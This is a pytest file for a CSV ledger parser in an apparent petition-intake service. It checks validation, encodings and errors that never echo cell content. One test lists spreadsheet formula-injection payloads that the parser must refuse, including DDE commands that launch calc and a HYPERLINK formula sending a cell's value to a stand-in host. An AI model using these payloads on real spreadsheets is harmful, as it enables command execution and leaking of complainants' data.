"""The clerk's ledger: what is a row, and what is wrong with one, without a word of what stands in it."""

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from xinfang_contracts.message import Rank

from services.intake.ledgers.register import COLUMNS, LedgerError, Row, parse
from services.runtime.districts import load_district

ROOT = Path(__file__).parents[2]
DISTRICT = load_district(ROOT / "deploy" / "districts" / "yanfeng.yaml")
TODAY = date(2023, 12, 31)
CANARY = "金丝雀拟名"
ROW = {
    "编号": "2023-001",
    "收件日期": "2023-03-01",
    "渠道": "来信",
    "举报人": "李拟安",
    "联系方式": "000-1000-0000",
    "被反映人": "王示例",
    "被反映人单位": "某村民委员会",
    "被反映人职务": "主任",
    "被反映人职级": "农村企业等其他人员",
    "所涉村社区": "430406003004",
    "反映内容": "虚构内容,有\n换行和“引号”",
}


def written(*rows: dict[str, str], columns: tuple[str, ...] = COLUMNS) -> str:
    text = io.StringIO()
    writer = csv.DictWriter(text, columns, restval="")
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue()


def read(*rows: dict[str, str]) -> list[Row]:
    return parse(written(*rows).encode(), DISTRICT, TODAY)


def columns_at_fault(**cells: str) -> list[str]:
    """The columns named for a row that is right but for these cells; the row's content must not be."""
    (row,) = read(ROW | cells)
    assert (row.entry is None) == bool(row.faults)
    assert not any(CANARY in fault.where + fault.what for fault in row.faults)
    return [fault.where for fault in row.faults]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_a_row_is_read_in_every_encoding_that_spreadsheets_write(encoding: str) -> None:
    (row,) = parse(written(ROW).encode(encoding), DISTRICT, TODAY)
    assert (row.number, row.serial, row.faults) == (2, "2023-001", ())
    assert row.entry is not None
    assert (row.entry.channel, row.entry.received_on) == ("letter", date(2023, 3, 1))
    content = row.entry.content
    assert (content.text, content.village) == (ROW["反映内容"], "430406003004")
    assert content.reporter is not None
    assert (content.reporter.name, content.reporter.contact) == ("李拟安", "000-1000-0000")
    (accused,) = content.accused
    assert (accused.name, accused.post, accused.rank) == ("王示例", "主任", Rank.VILLAGE_OR_OTHER)


def test_empty_cells_are_left_out() -> None:
    (row,) = read({"编号": "1", "收件日期": "2023-3-1", "渠道": "letter", "反映内容": "虚构"})
    assert row.entry is not None
    assert row.entry.content.model_dump(exclude_defaults=True) == {"text": "虚构"}


def test_a_day_as_a_spreadsheet_saves_it_is_the_same_day() -> None:
    assert [row.entry and row.entry.received_on for row in read(ROW | {"收件日期": "2023/3/1"})] == [date(2023, 3, 1)]


@pytest.mark.parametrize(
    ("column", "cell"),
    [
        ("编号", ""),
        ("编号", CANARY),
        ("编号", "a b"),
        ("编号", "x" * 61),
        ("收件日期", ""),
        ("收件日期", CANARY),
        ("收件日期", "2023-02-30"),
        ("收件日期", "2024-01-01"),
        ("渠道", CANARY),
        ("渠道", ""),
        ("渠道", "监督一点通"),
        ("举报人", CANARY * 30),
        ("联系方式", "0" * 201),
        ("被反映人", CANARY * 30),
        ("被反映人单位", CANARY * 50),
        ("被反映人职务", CANARY * 30),
        ("被反映人职级", CANARY),
        ("所涉村社区", "110101001001"),
        ("所涉村社区", "4.30406E+11"),
        ("反映内容", ""),
        ("反映内容", "字" * 20_001),
        ("反映内容", f"{CANARY}\x00"),
        ("上级转办", "superior_430400"),
        ("上级转办", CANARY),
        ("越级", CANARY),
    ],
)
def test_what_is_wrong_is_said_by_column_and_never_by_content(column: str, cell: str) -> None:
    assert columns_at_fault(**{column: cell}) == [column]


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://x.example/?"&A1)',
        "=cmd|' /C calc'!A0",
        "=拟名",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@SUM(A1)",
        "+SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        "-(1)+IMPORTXML(1)",
        "- A1",
        "+Sheet2!A1",
        "+'Other'!A1",
        '+"x"&B2',
        "-$B$2*2",
        "=SUM(A1)",
        "+SUM(A1)",
    ],
)
@pytest.mark.parametrize("column", ["反映内容", "举报人", "联系方式", "被反映人单位"])
def test_what_a_spreadsheet_would_calculate_is_refused_by_its_column(column: str, cell: str) -> None:
    assert columns_at_fault(**{column: cell}) == [column]


@pytest.mark.parametrize(
    "cell",
    [
        "+86-000-1000-0000",
        "+86 (0)000 1000000",
        "+86(000)1000000转8001",
        "-",
        "——无",
        "- 一、村集体资金",
        "-12.5万元",
        "-G107国道旁的厂房",
        "-A区(三组)与B区",
        "@某某 微信",
        "@wechat_id",
        "+1",
        "- see appendix - page 2",
        "1=1",
        "注:=号是原文",
    ],
)
def test_a_telephone_number_and_an_ordinary_dash_are_no_formula(cell: str) -> None:
    assert columns_at_fault(反映内容=cell, 联系方式=cell) == []


def test_a_long_text_of_signs_is_looked_at_in_linear_time() -> None:
    for cell in ("+" * 20_000, "-" + "1(" * 9_999, "+|" * 10_000, "@" + "A" * 19_999, '+"' + "x" * 19_998):
        assert columns_at_fault(反映内容=cell) == []


@pytest.mark.parametrize("cell", ["赴省", "赴京"])
def test_going_over_the_levels_is_no_fault(cell: str) -> None:
    assert columns_at_fault(越级=cell) == []


def test_all_faults_of_a_row_are_told_at_once() -> None:
    assert columns_at_fault(收件日期="x", 渠道="x", 越级="x") == ["收件日期", "渠道", "越级"]


def test_a_serial_that_could_be_anything_is_not_repeated() -> None:
    (row,) = read(ROW | {"编号": CANARY})
    assert row.serial is None


def test_a_serial_that_stands_twice_is_refused_both_times() -> None:
    first, other, second = read(ROW, ROW | {"编号": "2023-002"}, ROW)
    assert [fault.where for row in (first, second) for fault in row.faults] == ["编号", "编号"]
    assert other.entry is not None


def test_rows_are_counted_as_a_spreadsheet_counts() -> None:
    blank = "," * (len(COLUMNS) - 1) + "\r\n"
    lines = written(ROW, ROW | {"编号": "2023-002"}).splitlines(keepends=True)
    text = "".join([lines[0], blank, "\r\n", *lines[1:]])
    assert [row.number for row in parse(text.encode(), DISTRICT, TODAY)] == [4, 5]


def test_a_row_with_cells_too_many_is_refused_alone() -> None:
    text = written(ROW) + f"2023-002,2023-03-01,来信,,,,,,,,{CANARY},,,x\r\n" + f"{CANARY},x\r\n"
    good, *bad = parse(text.encode(), DISTRICT, TODAY)
    assert good.entry is not None
    assert [(row.number, row.serial, [fault.where for fault in row.faults]) for row in bad] == [
        (3, None, ["row"]),
        (4, None, ["row"]),
    ]


@pytest.mark.parametrize(
    ("ledger", "reason", "where"),
    [
        (b"", "wrong_headings", list(COLUMNS)),
        (written(ROW, columns=(*COLUMNS, "备注")).encode(), "wrong_headings", ["row 1"]),
        (written(columns=(*COLUMNS, "编号")).encode(), "wrong_headings", ["row 1"]),
        (f"{CANARY},2023-01-01\r\n".encode(), "wrong_headings", list(COLUMNS)),
        (written(ROW).encode("utf-16"), "wrong_encoding", ["file"]),
        ((written(ROW) + '2023-002,2023-03-01,来信,"' + CANARY).encode(), "wrong_csv", ["row 3"]),
        ((written(ROW) + f'2023-002,"{CANARY}"x').encode(), "wrong_csv", ["row 3"]),
    ],
)
def test_a_file_that_is_no_ledger_is_refused_whole(ledger: bytes, reason: str, where: list[str]) -> None:
    with pytest.raises(LedgerError) as raised:
        parse(ledger, DISTRICT, TODAY)
    assert raised.value.reason == reason
    assert [fault.where for fault in raised.value.faults] == where
    assert CANARY not in str(raised.value) + "".join(fault.what for fault in raised.value.faults)
    assert raised.value.__cause__ is None


def test_a_missing_column_is_named() -> None:
    with pytest.raises(LedgerError) as raised:
        parse(written(columns=COLUMNS[:-1]).encode(), DISTRICT, TODAY)
    assert [fault.where for fault in raised.value.faults] == ["越级"]


@given(st.binary(max_size=200))
def test_whatever_comes_is_rows_or_a_ledger_error(rubbish: bytes) -> None:
    heading = ",".join(COLUMNS).encode() + b"\r\n"
    for ledger in (rubbish, heading + rubbish):
        try:
            rows = parse(ledger, DISTRICT, TODAY)
        except LedgerError:
            continue
        assert all(row.faults for row in rows)
